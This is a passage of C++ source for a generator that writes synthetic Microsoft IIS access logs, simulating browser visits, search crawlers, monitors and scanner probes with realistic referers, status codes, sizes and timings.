        std::sscanf(cidr.c_str(), "%u.%u.%u.%u/%u", &a, &b, &c, &d, &bits);
        pool.V4.push_back({(a << 24) | (b << 16) | (c << 8) | d, bits >= 32 ? 1u : 1u << (32 - bits)});
    }
    pool.V6 = Words(text.V6);
    pool.V6Percent = pool.V6.empty() ? 0 : text.V6Percent;
    return pool;
}

// Year, month and day of `day` days after 2026-01-01.
struct Civil {
    int Year, Month, Day;
};

Civil CivilDay(int day) {
    Civil c{2026, 1, 1};
    static constexpr int kLengths[] = {31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
    for (int left = day; left > 0; --left) {
        bool leap = (c.Year % 4 == 0 && c.Year % 100 != 0) || c.Year % 400 == 0;
        int length = c.Month == 2 && leap ? 29 : kLengths[c.Month - 1];
        if (++c.Day > length) {
            c.Day = 1;
            if (++c.Month > 12) {
                c.Month = 1;
                ++c.Year;
            }
        }
    }
    return c;
}

} // namespace

// ---- the generator ----------------------------------------------------------------------------

struct TodayLog::Impl {
    struct Agent {
        Kind Type;
        const NetPool* From;
        std::string UserAgent;
        bool WeChat;
    };

    // A client in the middle of its visit (a person) or crawl (a bot).
    struct Session {
        std::string Ip;
        std::string Cookie;
        std::string Page; // the URL of the page in view, the referrer of what it loads
        int Pages = 0;    // pages (a person) or requests (a bot) still to come
        int Assets = 0;   // requests the page in view still makes
        bool Returning = false;
        bool Http2 = false;
    };
    static constexpr int kSlots = 4; // visits of one agent that run at the same time

    struct Layout {
        std::string Header;
        std::vector<Field> Fields;
        bool BehindBalancer;
    };

    struct Request {
        std::string_view Method;
        std::string Stem;
        std::string Query;
        std::string Referer;
        int Port;
        int Status, Sub, Win32;
        std::uint64_t Sent, Received, Taken;
    };

    Random Rng;
    std::uint64_t BlockBytes;
    std::vector<NetPool> Pools;
    std::vector<Agent> Agents;
    std::vector<int> Cumulative; // running sum of the agents' weights
    std::vector<std::array<Session, kSlots>> Sessions;
    std::vector<Layout> Layouts;
    int LayoutTotal = 0;

    // The file being written.
    Civil Date{2026, 1, 1};
    int Day = 0;
    std::uint64_t FileBytes = 1;
    std::uint64_t FileWritten = 0;
    std::int64_t BlockLeft = 0;
    std::size_t LayoutIndex = 0;
    int Second = 0;

    Request Req;
    std::string ClientIp;

    Impl(std::uint64_t seed, std::uint64_t blockBytes) : Rng(seed), BlockBytes(blockBytes ? blockBytes : 1) {
        for (const PoolText& text : kPools)
            Pools.push_back(ParsePool(text));
        int total = 0;
        for (const AgentText& text : kAgents) {
            std::string ua = AsLogged(text.UserAgent);
            bool weChat = ua.find("MicroMessenger") != std::string::npos;
            Agents.push_back({text.Type, &Pools[text.From], std::move(ua), weChat});
            Cumulative.push_back(total += text.Weight);
        }
        Sessions.resize(Agents.size());
        for (const LayoutText& text : kLayouts) {
            Layout layout;
            layout.Header = text.Fields;
            for (const std::string& name : Words(text.Fields))
                for (const auto& [known, field] : kFieldNames)
                    if (name == known) layout.Fields.push_back(field);
            layout.BehindBalancer = layout.Header.find("X-Forwarded-For") != std::string::npos;
            Layouts.push_back(std::move(layout));
            LayoutTotal += text.Weight;
        }
    }

    // -- time of day: the bytes written so far, spread over the day by the hourly traffic --
    int SecondOfDay() const {
        static constexpr int kTotal = [] {
            int sum = 0;
            for (int w : kHourWeights)
                sum += w;
            return sum;
        }();
        std::uint64_t target = FileWritten * std::uint64_t(kTotal) * 3600 / FileBytes; // weight-seconds
        std::uint64_t seen = 0;
        for (int hour = 0; hour < 24; ++hour) {
            std::uint64_t span = std::uint64_t(kHourWeights[hour]) * 3600;
            if (target < seen + span)
                return hour * 3600 + int((target - seen) / std::uint64_t(kHourWeights[hour]));
            seen += span;
        }
        return 86399;
    }

    void AppendDate(std::string& out) const {
        AppendNumber(out, std::uint64_t(Date.Year));
        out += '-';
        Append2(out, Date.Month);
        out += '-';
        Append2(out, Date.Day);
    }

    void AppendTime(std::string& out) const {
        Append2(out, Second / 3600);
        out += ':';
        Append2(out, Second / 60 % 60);
        out += ':';
        Append2(out, Second % 60);
    }

    std::size_t PickLayout() {
        int pick = int(Rng.Below(std::uint64_t(LayoutTotal)));
        std::size_t index = 0;
        while (pick >= kLayouts[index].Weight)
            pick -= kLayouts[index++].Weight;
        return index;
    }

    void AppendBlockHeader(std::string& out) {
        // A restart keeps the logging settings half of the time; otherwise the block has another set.
        if (FileWritten == 0) {
            LayoutIndex = PickLayout();
        } else if (Rng.Percent(50)) {
            const std::size_t previous = LayoutIndex;
            while (LayoutIndex == previous)
                LayoutIndex = PickLayout();
        }
        std::size_t before = out.size();
        out += "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ";
        AppendDate(out);
        out += ' ';
        AppendTime(out);
        out += "\r\n#Fields: ";
        out += Layouts[LayoutIndex].Header;
        out += "\r\n";
        FileWritten += out.size() - before;
        std::uint64_t half = BlockBytes / 2;
        BlockLeft = std::int64_t(half + Rng.Below(BlockBytes + 1));
    }

    // -- addresses --
    void MakeIp(std::string& out, const NetPool& pool) {
        out.clear();
        if (pool.V6Percent && Rng.Percent(pool.V6Percent)) {
            const std::string& pattern = pool.V6[Rng.Below(pool.V6.size())];
            for (char c : pattern) {
                if (c == '*') AppendHex(out, 1 + Rng.Below(0xff));
                else if (c == '#') AppendHex(out, Rng.Below(0x10000));
                else out += c;
            }
            return;
        }
        const Cidr& net = pool.V4[Rng.Below(pool.V4.size())];
        std::uint32_t ip = net.Base + std::uint32_t(Rng.Below(net.Size));
        if (net.Size >= 256 && (ip & 0xff) == 0)
            ip |= 1 + std::uint32_t(Rng.Below(254)); // no network addresses
        for (int shift = 24; shift >= 0; shift -= 8) {
            AppendNumber(out, (ip >> shift) & 0xff);
            if (shift) out += '.';
        }
    }

    void AppendToken(std::string& out, int length, std::string_view alphabet) {
        for (int i = 0; i < length; ++i)
            out += alphabet[Rng.Below(alphabet.size())];
    }

    static constexpr std::string_view kHexDigits = "0123456789abcdef";
    static constexpr std::string_view kUpperHex = "0123456789ABCDEF";
    static constexpr std::string_view kBase64Url =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    static constexpr std::string_view kAlnum = "abcdefghijklmnopqrstuvwxyz012345";

    const char* SearchTerm() { return kSearchTerms[Rng.Below(std::size(kSearchTerms))]; }

    // -- pages --
    void MakePage(std::string& stem, std::string& query) {
        stem.clear();
        query = "-";
        int p = int(Rng.Below(100));
        if (p < 10) {
            stem = "/";
        } else if (p < 45) {
            stem = "/news/";
            AppendNumber(stem, std::uint64_t(2023 + Rng.Between(0, 3)));
            Append2(stem, Rng.Between(1, 12));
            stem += '/';
            AppendNumber(stem, std::uint64_t(Rng.Between(10000, 89999)));
            stem += ".html";
            if (Rng.Percent(6)) query = "page=" + std::to_string(Rng.Between(2, 5));
        } else if (p < 65) {
            stem = "/products/detail.aspx";
            query = "id=";
            AppendNumber(query, std::uint64_t(Rng.Between(1000, 9999)));
            if (Rng.Percent(20)) {
                query += "&spm=a21bo.jianhua.201876.";
                AppendNumber(query, std::uint64_t(Rng.Between(1, 40)));
                query += ".5af911d9";
                AppendToken(query, 4, kAlnum);
            }
        } else if (p < 75) {
            stem = "/products/list.aspx";
            query = "cat=";
            AppendNumber(query, std::uint64_t(Rng.Between(10, 96)));
            query += "&page=";
            AppendNumber(query, std::uint64_t(Rng.Between(1, 30)));
            query += "&sort=";
            query += kSorts[Rng.Below(std::size(kSorts))];
        } else if (p < 82) {
            stem = "/search.aspx";
            query = "q=";
            query += SearchTerm();
            if (Rng.Percent(30)) {
                query += "&page=";
                AppendNumber(query, std::uint64_t(Rng.Between(2, 9)));
            }
        } else if (p < 88) {
            stem = "/tags/";
            stem += SearchTerm();
        } else if (p < 94) {
            stem = kStaticPages[Rng.Below(std::size(kStaticPages))];
        } else if (p < 97) {
            stem = "/member/login.aspx";
            query = "ReturnUrl=%2fmember%2forders.aspx";
        } else {
            stem = "/article/";
            AppendNumber(stem, std::uint64_t(Rng.Between(100000, 999999)));
        }
    }

    void MakeAsset(Request& r, Res& res) {
        r.Query = "-";
        int p = int(Rng.Below(100));
        if (p < 12) {
            res = Res::Style;
            if (Rng.Percent(70)) {
                r.Stem = "/static/css/site.min.css";
                r.Query = "v=20251218";
            } else {
                r.Stem = "/static/css/swiper-bundle.min.css";
            }
        } else if (p < 28) {
            res = Res::Script;
            r.Stem = kScripts[Rng.Below(std::size(kScripts))];
        } else if (p < 72) {
            res = Res::Image;
            int kind = int(Rng.Below(10));
            if (kind < 6) {
                r.Stem = "/uploads/";
                AppendNumber(r.Stem, std::uint64_t(2024 + Rng.Between(0, 2)));
                r.Stem += '/';
                Append2(r.Stem, Rng.Between(1, 12));
                r.Stem += '/';
                AppendToken(r.Stem, 16, kHexDigits);
                r.Stem += kImageTypes[Rng.Below(std::size(kImageTypes))];
            } else if (kind < 8) {
                r.Stem = "/images/banner-";
                AppendNumber(r.Stem, std::uint64_t(Rng.Between(1, 6)));
                r.Stem += ".webp";
            } else {
                r.Stem = kind == 8 ? "/images/logo.png" : "/images/icons/sprite.svg";
            }
        } else if (p < 78) {
            res = Res::Font;
            r.Stem = "/static/fonts/iconfont.woff2";
            r.Query = "t=1733980000000";
        } else if (p < 95) {
            res = Res::Api;
            int kind = int(Rng.Below(3));
            if (kind == 0) {
                r.Stem = "/api/cart/count";
                r.Query = "_=";
                AppendNumber(r.Query,
                             (kEpoch2026 + std::uint64_t(Day) * 86400 + std::uint64_t(Second)) * 1000 +
                                 Rng.Below(1000));
            } else if (kind == 1) {
                r.Method = "POST";
                r.Stem = "/api/stats/hit";
            } else {
                r.Stem = "/api/comments/list";
                r.Query = "articleId=";
                AppendNumber(r.Query, std::uint64_t(Rng.Between(10000, 89999)));
                r.Query += "&page=1&size=20";
            }
        } else {
            res = Res::Favicon;
            r.Stem = "/favicon.ico";
        }
    }

    void AppendPageUrl(std::string& out, const Request& r) {
        out = kSite;
        out += r.Stem;
        if (r.Query != "-") {
            out += '?';
            out += r.Query;
        }
    }

    // -- where a visit comes from --
    void MakeEntryReferer(std::string& out) {
        int p = int(Rng.Below(100));
        out.clear();
        if (p < 42) { // a search engine
            int engine = int(Rng.Below(100));
            if (engine < 45) {
                if (Rng.Percent(65)) {
                    out = "https://www.baidu.com/link?url=";
                    AppendToken(out, Rng.Between(60, 110), kBase64Url);
                    out += "&wd=&eqid=";
                    AppendToken(out, 32, kHexDigits);
                } else {
                    out = "https://m.baidu.com/from=844b/s?word=";
                    const char* term = SearchTerm();
                    out += term;
                    out += "&sa=tb&ts=";
                    AppendNumber(out, 1000000 + Rng.Below(9000000));
                    out += "&t_kt=0&ie=utf-8&rsv_t=";
                    AppendToken(out, 40, kBase64Url);
                    out += "&ms=1&rsv_pq=";
                    AppendToken(out, 16, kHexDigits);
                    out += "&ss=100&tj=1&rq=";
                    out += term;
                    out += "&rqlang=zh&rsv_sug4=";
                    AppendNumber(out, Rng.Below(20000));
                    out += "&inputT=";
                    AppendNumber(out, Rng.Below(9000));
                }
            } else if (engine < 70) {
                if (Rng.Percent(70)) {
                    out = Rng.Percent(60) ? "https://www.google.com/" : "https://www.google.com.hk/";
                } else {
                    const char* term = SearchTerm();
                    out = "https://www.google.com.hk/search?q=";
                    out += term;
                    out += "&sca_esv=";
                    AppendToken(out, 16, kHexDigits);
                    out += "&source=hp&ei=";
                    AppendToken(out, 22, kBase64Url);
                    out += "&oq=";
                    out += term;
                    out += "&gs_lp=Egxnd3Mtd2l6LXNlcnAi";
                    AppendToken(out, Rng.Between(40, 90), kBase64Url);
                    out += "&sclient=gws-wiz-serp";
                }
            } else if (engine < 90) {
                if (Rng.Percent(40)) {
                    out = "https://cn.bing.com/";
                } else {
                    const char* term = SearchTerm();
                    out = "https://cn.bing.com/search?q=";
                    out += term;
                    out += "&qs=n&form=QBRE&sp=-1&lq=0&pq=";
                    out += term;
                    out += "&sc=";
                    AppendNumber(out, std::uint64_t(Rng.Between(1, 12)));
                    out += '-';
                    AppendNumber(out, std::uint64_t(Rng.Between(2, 14)));
                    out += "&sk=&cvid=";
                    AppendToken(out, 32, kUpperHex);
                    out += "&ghsh=0&ghacc=0&ghpl=";
                }
            } else if (engine < 95) {
                out = "https://www.sogou.com/link?url=";
                AppendToken(out, Rng.Between(40, 80), kBase64Url);
            } else {
                out = "https://www.so.com/link?m=";
                AppendToken(out, Rng.Between(60, 100), kBase64Url);
            }
        } else if (p < 50) { // a link elsewhere
            int site = int(Rng.Below(4));
            if (site == 0) {
                out = "https://www.zhihu.com/question/";
                AppendNumber(out, 300000000 + Rng.Below(400000000));
            } else if (site == 1) {
                out = "https://link.zhihu.com/?target=https%3A//www.example.com.cn/news/2025";
                Append2(out, Rng.Between(1, 12));
                out += "/";
                AppendNumber(out, std::uint64_t(Rng.Between(10000, 89999)));
                out += ".html";
            } else if (site == 2) {
                out = "https://weibo.com/";
            } else {
                out = "https://t.co/";
                AppendToken(out, 10, kBase64Url);
            }
        } else if (p < 68) { // the site itself, in another tab
            Request other{};
            MakePage(other.Stem, other.Query);
            AppendPageUrl(out, other);
        } else {
            out = "-";
        }
    }

    // -- answers --
    int ChooseStatus(const Request& r, Res res, bool crawler, bool returning) {
        if (r.Port == 80) return 301; // to https
        int p = int(Rng.Below(1000));
        if (res == Res::Page || res == Res::Api) {
            // Mostly fine; crawlers and SEO tools follow old links, so more 404s and 301s.
            int missing = crawler ? 70 : 35;
            if (p < missing) return 404;
            if (p < missing + 30) return 301;
            if (p < missing + 42) return 302;
            if (p < missing + 50) return 500;
            if (p < missing + 53) return 503;
            if (p < missing + 90 && crawler && res == Res::Page) return 304; // If-Modified-Since
            return 200;
        }
        if (res == Res::Robots || res == Res::Sitemap) return p < 150 ? 304 : 200;
        int cached = returning ? 700 : crawler ? 60 : 250;
        if (p < 25) return 404;
        if (p < 25 + cached) return 304;
        return 200;
    }

    // Sizes and time for r.Status; sets sc-win32-status where IIS gives one.
    void Fill(Request& r, Res res) {
        const bool dynamic = res == Res::Page || res == Res::Api;
        switch (r.Status) {
        case 200:
            switch (res) {
            case Res::Page:
                r.Sent = r.Stem == "/" ? Rng.LogBetween(38000, 64000) : Rng.LogBetween(9000, 72000);
                break;
            case Res::Style: r.Sent = Rng.LogBetween(7000, 26000); break;
            case Res::Script: r.Sent = Rng.LogBetween(28000, 190000); break;
            case Res::Image: r.Sent = Rng.LogBetween(2400, 420000); break;
            case Res::Font: r.Sent = 38721; break;
            case Res::Api: r.Sent = Rng.LogBetween(180, 2600); break;
            case Res::Favicon: r.Sent = 5430; break;
            case Res::Robots: r.Sent = 612; break;
            case Res::Sitemap: r.Sent = Rng.LogBetween(18000, 420000); break;
            case Res::Probe: r.Sent = Rng.LogBetween(38000, 64000); break;
            }
            r.Taken = dynamic ? Rng.LogBetween(15, 900) : Rng.LogBetween(1, 40) - 1;
            if (dynamic && Rng.PerMille(8)) r.Taken = Rng.LogBetween(2000, 30000);
            if (int p = int(Rng.Below(1000)); p < 15) { // the client went away mid-transfer
                r.Win32 = 64;
                r.Sent = r.Sent / 2 + 1;
            } else if (p < 22) {
                r.Win32 = 995;
            } else if (p < 25) {
                r.Win32 = 1236;
            }
            break;
        case 304:
            r.Sent = Rng.LogBetween(140, 330);
            r.Taken = Rng.LogBetween(1, 4) - 1;
            break;
        case 301:
        case 302:
            r.Sent = Rng.LogBetween(320, 520);
            r.Taken = Rng.LogBetween(1, 20) - 1;
            break;
        case 403:
            r.Sent = 1233;
            r.Taken = Rng.LogBetween(1, 20);
            break;
        case 404:
            if (dynamic) {
                r.Sent = Rng.LogBetween(4200, 9800); // the site's own error page
            } else {
                r.Sent = 1245; // IIS's
                if (r.Win32 == 0 && r.Sub == 0) r.Win32 = 2;
            }
            r.Taken = Rng.LogBetween(1, 60);
            break;
        case 500:
            r.Sent = Rng.LogBetween(3000, 7300);
            r.Taken = Rng.LogBetween(40, 30000);
            break;
        default: // 503
            r.Sent = 326;
            r.Taken = Rng.LogBetween(1, 50);
            break;
        }
        if (r.Method == "HEAD") r.Sent = std::min<std::uint64_t>(r.Sent, Rng.LogBetween(180, 380));
    }

    void Respond(Request& r, Res res, bool crawler, bool returning) {
        r.Status = ChooseStatus(r, res, crawler, returning);
        Fill(r, res);
    }

    // A scanner's probe, answered as IIS answers it (over http it is redirected first).
    void ProbeRequest(Request& r) {
        const Probe& probe = kProbes[Rng.Below(std::size(kProbes))];
        r.Stem = probe.Stem;
        r.Query = probe.Query;
        if (Rng.Percent(25)) r.Port = 80;
        if (r.Port == 80) {
            r.Status = 301;
        } else {
            r.Status = probe.Status;
            r.Sub = probe.Sub;
            r.Win32 = probe.Win32;
        }
        Fill(r, Res::Probe);
    }

    // Bytes of the request: the request line and headers the client sends.
    std::uint64_t RequestBytes(const Request& r, const Agent& agent, const Session& s, bool browser) {
        std::uint64_t bytes = r.Method.size() + r.Stem.size() + (r.Query == "-" ? 0 : r.Query.size() + 1) +
                              agent.UserAgent.size() + (r.Referer == "-" ? 0 : r.Referer.size() + 10) + 60;
        if (browser) {
            bytes += std::uint64_t(Rng.Between(260, 640)) + (s.Cookie == "-" ? 0 : s.Cookie.size() + 9);
            if (r.Method == "POST") bytes += Rng.LogBetween(60, 2400);
        } else {
            bytes += std::uint64_t(Rng.Between(40, 220));
        }
        if (s.Http2) bytes = bytes * 2 / 5; // HPACK
        return bytes;
    }

    // -- one line --
    void NewVisitor(Session& s, const Agent& agent) {
        MakeIp(s.Ip, *agent.From);
        s.Returning = Rng.Percent(30);
        s.Http2 = Rng.Percent(80);
        s.Cookie = "Hm_lvt_";
        s.Cookie += kTongji;
        s.Cookie += '=';
        std::uint64_t now = kEpoch2026 + std::uint64_t(Day) * 86400 + std::uint64_t(Second);
        AppendNumber(s.Cookie, now - (s.Returning ? Rng.Below(20 * 86400) : 0));
        s.Cookie += ";+Hm_lpvt_";
        s.Cookie += kTongji;
        s.Cookie += '=';
        AppendNumber(s.Cookie, now);
        if (s.Returning || Rng.Percent(40)) {
            s.Cookie += ";+ASP.NET_SessionId=";
            AppendToken(s.Cookie, 24, kAlnum);
        }
        s.Pages = 1;
        while (s.Pages < 12 && Rng.Percent(55))
            ++s.Pages;
        s.Assets = 0;
        s.Page.clear();
    }

    void BrowserRequest(Request& r, Session& s, const Agent& agent) {
        Res res = Res::Page;
        if (s.Pages == 0 && s.Assets == 0) NewVisitor(s, agent);
        if (s.Assets > 0) {
            --s.Assets;
            MakeAsset(r, res);
            r.Referer = res == Res::Font ? std::string(kSite) + "/static/css/site.min.css?v=20251218"
                                         : s.Page;
        } else {
            --s.Pages;
            MakePage(r.Stem, r.Query);
            if (s.Page.empty()) { // the first page of the visit
                if (agent.WeChat) {
                    r.Referer = "-";
                    if (r.Query == "-")
                        r.Query = Rng.Percent(60) ? "from=singlemessage&isappinstalled=0" : "from=timeline";
                } else {
                    MakeEntryReferer(r.Referer);
                }
                if (Rng.Percent(4)) r.Port = 80;
            } else {
                r.Referer = s.Page;
            }
            AppendPageUrl(s.Page, r);
            s.Assets = s.Returning ? Rng.Between(2, 8) : Rng.Between(6, 22);
        }
        Respond(r, res, false, s.Returning);
        if (r.Port == 80) s.Assets = 0; // the redirect to https follows as a new visit
    }

    void CrawlerRequest(Request& r, Session& s, const Agent& agent) {
        if (s.Pages <= 0) {
            MakeIp(s.Ip, *agent.From);
            s.Cookie = "-";
            s.Http2 = agent.From == &Pools[Google] && Rng.Percent(50);
            switch (agent.Type) {
            case Kind::AiUser: s.Pages = Rng.Between(1, 3); break;
            case Kind::Preview: s.Pages = 2; break;
            case Kind::Monitor: s.Pages = Rng.Between(20, 200); break;
            default: s.Pages = Rng.Between(10, 300); break;
            }
        }
        --s.Pages;
        r.Referer = "-";
        Res res = Res::Page;
        int p = int(Rng.Below(100));
        switch (agent.Type) {
        case Kind::Monitor: // the home page is up, or the application pool is being recycled
            r.Method = "HEAD";
            r.Stem = "/";
            r.Query = "-";
            r.Status = Rng.PerMille(995) ? 200 : 503;
            Fill(r, Res::Page);
            return;
        case Kind::Image:
            if (p < 85) {
                MakeAsset(r, res);
                if (res != Res::Image) {
                    res = Res::Image;
                    r.Method = "GET";
                    r.Stem = "/images/logo.png";
                    r.Query = "-";
                }
            } else {
                MakePage(r.Stem, r.Query);
            }
            break;
        case Kind::Preview:
            if (s.Pages == 1) {
                MakePage(r.Stem, r.Query);
                if (r.Query == "-")
                    r.Query = agent.From == &Pools[Facebook] ? "fbclid=IwY2xjawF" : "utm_source=twitter";
                if (agent.From == &Pools[Facebook]) {
                    AppendToken(r.Query, 40, kBase64Url);
                }
            } else {
                res = Res::Image;
                r.Stem = "/images/banner-";
                AppendNumber(r.Stem, std::uint64_t(Rng.Between(1, 6)));
                r.Stem += ".webp";
                r.Query = "-";
            }
            break;
        default:
            if (agent.Type == Kind::Fake && p < 50) {
                ProbeRequest(r);
                return;
            }
            if (p < 3) {
                res = Res::Robots;
                r.Stem = "/robots.txt";
                r.Query = "-";
            } else if (p < 6 && agent.Type != Kind::AiUser) {
                res = Res::Sitemap;
                int which = int(Rng.Below(4));
                r.Stem = which == 0   ? "/sitemap.xml"
                         : which == 1 ? "/sitemap-news.xml"
                                      : "/sitemap/products-" + std::to_string(Rng.Between(1, 12)) + ".xml";
                r.Query = "-";
            } else if (p < 16 && agent.Type == Kind::Search) {
                MakeAsset(r, res); // the page's resources, for rendering
                if (res == Res::Api) {
                    r.Method = "GET";
                    res = Res::Script;
                    r.Stem = kScripts[Rng.Below(std::size(kScripts))];
                    r.Query = "-";
                }
            } else {
                MakePage(r.Stem, r.Query);
            }
            if (Rng.Percent(2)) r.Port = 80;
            break;
        }
        Respond(r, res, true, false);
    }

    void ScriptRequest(Request& r, Session& s, const Agent& agent) {
        if (s.Pages <= 0) {
            MakeIp(s.Ip, *agent.From);
            s.Cookie = "-";
            s.Http2 = false;
            s.Pages = agent.Type == Kind::Scanner ? Rng.Between(3, 40) : Rng.Between(1, 20);
        }
        --s.Pages;
        r.Referer = "-";
        if (agent.Type == Kind::Scanner && Rng.Percent(85)) {
            ProbeRequest(r);
            return;
        }
        Res res = Res::Api;
        if (agent.Type == Kind::Script && Rng.Percent(85)) {
            MakeAsset(r, res);
            if (res != Res::Api) {
                res = Res::Api;
                r.Stem = "/api/cart/count";
                r.Query = "-";
            }
        } else {
            res = Res::Page;
            r.Stem = "/";
            r.Query = "-";
        }
        Respond(r, res, false, false);
    }

    void AppendLine(std::string& out) {
        const int pick = int(Rng.Below(std::uint64_t(Cumulative.back())));
        const std::size_t index =
            std::size_t(std::upper_bound(Cumulative.begin(), Cumulative.end(), pick) - Cumulative.begin());
        const Agent& agent = Agents[index];
        Session& s = Sessions[index][Rng.Below(kSlots)];
        Second = std::max(Second, SecondOfDay());

        Request& r = Req;
        r.Method = "GET";
        r.Port = 443;
        r.Sub = r.Win32 = 0;
        if (agent.Type == Kind::Browser) BrowserRequest(r, s, agent);
        else if (IsCrawler(agent.Type)) CrawlerRequest(r, s, agent);
        else ScriptRequest(r, s, agent);
        const bool browser = agent.Type == Kind::Browser;
        r.Received = RequestBytes(r, agent, s, browser);

        const Layout& layout = Layouts[LayoutIndex];
        if (layout.BehindBalancer) {
            ClientIp = "10.0.2.";
            AppendNumber(ClientIp, std::uint64_t(Rng.Between(11, 14)));
        }
        std::size_t before = out.size();
        bool first = true;
        for (Field field : layout.Fields) {
            if (!first) out += ' ';
            first = false;
            switch (field) {
            case Field::Date: AppendDate(out); break;
            case Field::Time: AppendTime(out); break;
            case Field::SiteName: out += "W3SVC2"; break;
            case Field::ComputerName: out += "WEB01"; break;
            case Field::ServerIp: out += "10.0.1.12"; break;
            case Field::Method: out += r.Method; break;
            case Field::UriStem: out += r.Stem; break;
            case Field::UriQuery: out += r.Query; break;
            case Field::Port: AppendNumber(out, std::uint64_t(r.Port)); break;
            case Field::UserName: out += '-'; break;
            case Field::ClientIp: out += layout.BehindBalancer ? ClientIp : s.Ip; break;
            case Field::Version: out += s.Http2 && r.Port == 443 ? "HTTP/2" : "HTTP/1.1"; break;
            case Field::UserAgent: out += agent.UserAgent; break;
            case Field::Cookie: out += browser ? std::string_view(s.Cookie) : std::string_view("-"); break;
            case Field::Referer: out += r.Referer; break;
            case Field::Host: out += kHost; break;
            case Field::Status: AppendNumber(out, std::uint64_t(r.Status)); break;
            case Field::SubStatus: AppendNumber(out, std::uint64_t(r.Sub)); break;
            case Field::Win32Status: AppendNumber(out, std::uint64_t(r.Win32)); break;
            case Field::BytesSent: AppendNumber(out, r.Sent); break;
            case Field::BytesReceived: AppendNumber(out, r.Received); break;
            case Field::TimeTaken: AppendNumber(out, r.Taken); break;
            case Field::ForwardedFor: out += s.Ip; break;
            }
        }
        out += "\r\n";
        std::size_t length = out.size() - before;
        FileWritten += length;
        BlockLeft -= std::int64_t(length);
    }
};

TodayLog::TodayLog(std::uint64_t seed, std::uint64_t blockBytes)
    : impl_(std::make_unique<Impl>(seed, blockBytes)) {}

TodayLog::~TodayLog() = default;

void TodayLog::BeginFile(std::string& out, int day, std::uint64_t fileBytes) {
    Impl& m = *impl_;
    m.Day = day;
    m.Date = CivilDay(day);
    m.FileBytes = fileBytes ? fileBytes : 1;
    m.FileWritten = 0;
    m.Second = 0;
    m.AppendBlockHeader(out);
}

void TodayLog::AppendLines(std::string& out, std::uint64_t bytes) {
    Impl& m = *impl_;
    const std::uint64_t target = out.size() + bytes;
    while (out.size() < target) {
        if (m.BlockLeft <= 0) m.AppendBlockHeader(out);
        m.AppendLine(out);
    }
}

std::string TodayLog::FileName(int day) {
    Civil c = CivilDay(day);
    char name[32];
    std::snprintf(name, sizeof name, "u_ex%02d%02d%02d.log", c.Year % 100, c.Month, c.Day);
    return name;
}

} // namespace loggen
